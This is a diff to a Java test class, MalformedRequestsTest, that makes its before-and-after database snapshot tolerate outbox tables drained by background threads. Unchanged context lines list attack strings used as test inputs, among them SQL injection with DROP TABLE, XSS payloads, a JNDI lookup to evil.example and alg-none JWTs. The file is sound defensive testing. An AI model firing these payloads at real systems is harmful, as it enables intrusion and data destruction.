@@ -55,6 +55,12 @@ class MalformedRequestsTest {
             "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "eyJ0eXAiOiJKV1QifQ.e30.c2ln");
     private static final Set<String> EXPECTED_TO_CHANGE = Set.of("login_failure", "spring_session",
             "spring_session_attributes", "rate_limit_bucket", "security_event");
+    /**
+     * Outboxes whose rows earlier tests left behind: their delivery threads send, retry and delete those rows while
+     * this test runs, so only their ids are compared, and only for rows added (a malformed request must enqueue no
+     * mail and no logout token).
+     */
+    private static final Set<String> DRAINED_IN_THE_BACKGROUND = Set.of("mail_outbox", "backchannel_logout_outbox");
 
     private static final List<String> NASTY = List.of("' OR '1'='1", "'; DROP TABLE users; --", "\" OR \"\"=\"",
             "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "${jndi:ldap://evil.example/a}",
@@ -86,7 +92,13 @@ class MalformedRequestsTest {
             }
         }
         assertThat(failures).isEmpty();
-        assertThat(snapshot()).isEqualTo(before);
+        Map<String, List<String>> after = snapshot();
+        for (String outbox : DRAINED_IN_THE_BACKGROUND) {
+            assertThat(after.remove(outbox)).as("rows added to " + outbox).isSubsetOf(before.remove(outbox));
+        }
+        assertThat(after.keySet()).isEqualTo(before.keySet());
+        // table by table, so that a failure names the table instead of printing the whole database twice
+        before.forEach((table, rows) -> assertThat(after.get(table)).as(table).isEqualTo(rows));
     }
 
     private static boolean showsAStackTrace(String response) {
@@ -216,7 +228,10 @@ class MalformedRequestsTest {
                         + "WHERE table_schema = 'public' AND table_type = 'BASE TABLE'")
                 .query(String.class).list();
         for (String table : names) {
-            if (!EXPECTED_TO_CHANGE.contains(table)) {
+            if (DRAINED_IN_THE_BACKGROUND.contains(table)) {
+                tables.put(table, database.sql("SELECT id FROM " + table).query(String.class).list());
+            }
+            else if (!EXPECTED_TO_CHANGE.contains(table)) {
                 tables.put(table, database.sql("SELECT * FROM " + table)
                         .query((rs, row) -> {
                             StringBuilder line = new StringBuilder();
